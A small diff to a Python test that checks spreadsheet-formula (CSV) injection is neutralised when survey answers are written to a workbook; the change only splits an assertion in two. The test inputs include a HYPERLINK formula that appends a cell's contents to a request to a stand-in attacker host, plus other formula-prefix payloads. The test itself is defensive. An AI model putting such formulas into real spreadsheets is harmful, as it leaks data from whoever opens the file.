@@ -451,7 +451,8 @@ def formula_in_a_survey_answer_reaches_the_workbook(w: World) -> None:
     ws = Workbook(write_only=True).create_sheet()
     for text in ('=HYPERLINK("http://evil.example?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"):
         cell = _cell(ws, text)
-        assert cell.data_type == "s" and cell.quotePrefix  # shown as typed, never evaluated
+        assert cell.data_type == "s"
+        assert cell.quotePrefix  # shown as typed, never evaluated
         assert cell.value == text
     assert not _cell(ws, "Jeonbuk University").quotePrefix
     assert _cell(ws, -3).value == -3  # numbers stay numbers
